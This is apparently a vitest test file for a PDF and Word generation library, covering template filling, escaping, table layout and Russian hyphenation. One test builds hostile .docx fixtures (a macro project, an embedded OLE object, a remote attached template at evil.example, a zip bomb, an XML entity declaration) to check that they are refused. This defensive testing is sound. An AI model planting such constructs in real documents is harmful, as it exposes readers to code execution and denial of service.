import fc from "fast-check";
import PizZip from "pizzip";
import { expect, test } from "vitest";
import { makeDocx, makePdf, TemplateRefused, type TextDocument, writeDocx } from "./index.ts";

const chart =
  '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="80"><rect width="120" height="50" fill="#0b5cad"/><text x="8" y="24">Приём</text></svg>';
const document: TextDocument = {
  title: "Обзор обращений",
  language: "ru",
  numbered: true,
  blocks: [
    { kind: "heading", level: 1, text: "Обзор #обращений *не курсив*" },
    {
      kind: "columns",
      widths: [1, 1],
      cells: [[{ kind: "paragraph", text: "слева" }], [{ kind: "paragraph", text: "справа", align: "end" }]],
    },
    { kind: "paragraph", text: "Первая строка\nвторая строка\n\nВторой абзац.", align: "justify", indent: true },
    { kind: "list", items: ["раз", "два"], numbered: true },
    { kind: "table", head: ["Тема", "Сколько"], rows: [['Дороги <& "ёж">', "12"], ["Снег"]], align: ["start", "end"], caption: "По темам" },
    { kind: "picture", content: chart, alt: "Столбики", width: 50, caption: "Рисунок" },
    { kind: "space", mm: 5 },
    { kind: "page_break" },
    { kind: "paragraph", text: "Конец" },
  ],
};

/** A Word file whose body holds these paragraphs. */
async function word(...paragraphs: string[]): Promise<Buffer> {
  return writeDocx({ title: "t", language: "ru", blocks: paragraphs.map((text) => ({ kind: "paragraph", text })) });
}

const textOf = (docx: Buffer) => new PizZip(docx).file("word/document.xml")?.asText() ?? "";

function changed(docx: Buffer, change: (zip: PizZip) => void): Buffer {
  const zip = new PizZip(docx);
  change(zip);
  return zip.generate({ type: "nodebuffer", compression: "DEFLATE" });
}

const refusal = async (template: Buffer, data = {}) => {
  const error = await makeDocx(template, data).catch((error: unknown) => error);
  expect(error).toBeInstanceOf(TemplateRefused);
  const { code, values } = error as TemplateRefused;
  return [code, values.tag];
};

test("a PDF holds headings, tables and a chart, and is the same twice", async () => {
  const pdf = await makePdf(document);
  expect(pdf.subarray(0, 5).toString()).toBe("%PDF-");
  expect(pdf.toString("latin1").match(/\/Type \/Page\b/g)).toHaveLength(2);
  expect((await makePdf(document)).equals(pdf)).toBe(true);
});

test("the same document for Word keeps its texts as texts", async () => {
  const xml = textOf(await writeDocx(document));
  expect(xml).toContain('Дороги &lt;&amp; "ёж"&gt;');
  expect(xml).toContain('w:pStyle w:val="Heading1"');
  expect(xml).toContain('r:embed="rIdImage1"');
});

test("a template is filled: texts are escaped, lines stay lines, parts repeat", async () => {
  const template = await word("Кому: {{заявитель.дательный}}", "{{#строки}}", "— {{имя}}", "{{/строки}}");
  const xml = textOf(
    await makeDocx(template, { "заявитель.дательный": "Мария & <b>\nСугробова", строки: [{ имя: "раз" }, { имя: "два" }] }),
  );
  expect(xml).toContain("Мария &amp; &lt;b&gt;");
  expect(xml).toContain("<w:br/>");
  expect(xml).toMatch(/раз[\s\S]*два/);
  expect(xml).not.toContain("{{");
});

test("a broken template is refused with the tag that breaks it", async () => {
  expect(await refusal(await word("{{номр}}"), { номер: "1" })).toEqual(["unknown_tag", "{{номр}}"]);
  expect(await refusal(await word("{{constructor}}"))).toEqual(["unknown_tag", "{{constructor}}"]);
  expect(await refusal(await word("{{номер"))).toEqual(["unclosed_tag", "номер"]);
  expect(await refusal(await word("номер}}"))).toEqual(["unopened_tag", "номер"]);
  expect(await refusal(await word("{{#строки}} нет конца"))).toEqual(["unclosed_loop", "строки"]);
});

test("a hostile template is refused before it is unpacked by anything", async () => {
  const good = await word("{{номер}}");
  expect(await refusal(Buffer.from("не документ"))).toEqual(["not_docx", undefined]);
  expect(await refusal(changed(good, (zip) => zip.file("word/vbaProject.bin", "MZ")))).toEqual(["macros", undefined]);
  expect(await refusal(changed(good, (zip) => zip.file("word/embeddings/oleObject1.xlsx", "x")))).toEqual(["embedded", undefined]);
  expect(
    await refusal(
      changed(good, (zip) =>
        zip.file(
          "word/_rels/settings.xml.rels",
          '<Relationships><Relationship Id="a" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        ),
      ),
    ),
  ).toEqual(["remote", undefined]);
  const bomb = changed(good, (zip) => zip.file("word/media/image1.png", Buffer.alloc(70_000_000)));
  expect(await refusal(bomb)).toEqual(["bomb", undefined]);
  const entities = changed(good, (zip) => zip.file("word/document.xml", '<!DOCTYPE x [<!ENTITY a "b">]><w:document/>'));
  expect(await refusal(entities)).toEqual(["not_docx", undefined]);
});

test("no text breaks a document or changes the others", async () => {
  const template = await word("[{{текст}}]");
  await fc.assert(
    fc.asyncProperty(fc.string({ unit: "binary", maxLength: 40 }), async (text) => {
      const xml = textOf(await makeDocx(template, { текст: text }));
      expect(xml.match(/<w:document/g)).toHaveLength(1);
      expect((await makePdf({ title: "t", language: "ru", blocks: [{ kind: "paragraph", text: `${text} 😀` }] })).length).toBeGreaterThan(
        1000,
      );
    }),
    { numRuns: 25 },
  );
});

test("Word is told the widths of columns, keeps rows whole, repeats headings and divides Russian words", async () => {
  const docx = await writeDocx({
    title: "t",
    language: "ru",
    blocks: [{ kind: "table", head: ["Тема", "Сколько"], rows: [["Снег", "3"]], widths: [3, 1] }],
  });
  const columns = [...textOf(docx).matchAll(/<w:gridCol w:w="(\d+)"\/>/g)].map(([, width]) => Number(width));
  // 180 mm between the margins, in twentieths of a point
  expect(columns.map((width) => Math.round(width / 56.7))).toEqual([135, 45]);
  expect(textOf(docx).match(/<w:cantSplit\/>/g)).toHaveLength(2);
  expect(textOf(docx).match(/<w:tblHeader\/>/g)).toHaveLength(1);
  expect(new PizZip(docx).file("word/settings.xml")?.asText()).toContain("<w:autoHyphenation/>");
});
